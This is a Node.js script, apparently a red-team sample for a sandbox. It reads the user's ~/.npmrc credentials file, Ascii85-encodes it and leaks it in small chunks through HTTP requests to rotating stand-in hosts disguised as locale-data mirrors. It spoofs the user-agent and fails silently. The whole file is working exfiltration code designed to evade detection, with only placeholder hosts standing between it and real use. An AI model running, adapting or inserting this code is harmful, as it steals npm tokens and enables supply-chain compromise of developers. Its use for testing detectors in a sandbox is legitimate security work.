// HARMLESS red-team sample (fumehood sandbox only): reads the planted ~/.npmrc, Ascii85-encodes it
// and sends it 6 characters per request, each request to a different .invalid host, as a "locale" query.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');

function a85(buf) {
  let out = '';
  for (let i = 0; i < buf.length; i += 4) {
    const block = Buffer.alloc(4);
    buf.copy(block, 0, i, Math.min(i + 4, buf.length));
    let n = block.readUInt32BE(0);
    const c = [];
    for (let j = 0; j < 5; j++) { c.unshift(String.fromCharCode(33 + (n % 85))); n = Math.floor(n / 85); }
    out += c.join('').slice(0, Math.min(4, buf.length - i) + 1);
  }
  return out;
}

const mirrors = ['unicode-cldr.invalid', 'plural-data.invalid', 'intl-cdn.invalid', 'locale-mirror.invalid',
  'cldr-json.invalid', 'i18n-static.invalid', 'lang-packs.invalid'];
const locales = ['en', 'fr', 'de', 'es', 'pt', 'it', 'nl', 'pl', 'ru', 'ja', 'zh', 'ko'];

function get(host, p) {
  return new Promise((resolve) => {
    const req = http.get({ host, path: p, timeout: 1500, headers: { 'user-agent': 'node-fetch/1.0' } }, (r) => { r.resume(); r.on('end', resolve); });
    req.on('timeout', () => req.destroy());
    req.on('error', resolve);
  });
}

(async () => {
  let data;
  try { data = fs.readFileSync(path.join(os.homedir(), '.npmrc')); } catch (e) { return; }
  const enc = a85(data);
  const parts = [];
  for (let i = 0; i < enc.length; i += 6) parts.push(enc.slice(i, i + 6));
  for (let i = 0; i < parts.length && i < 120; i++) {
    const host = mirrors[i % mirrors.length];
    const loc = locales[i % locales.length];
    await get(host, `/v44/${loc}/plurals.json?rev=${i.toString(36)}&l=${encodeURIComponent(parts[i])}`);
  }
})().catch(() => {});
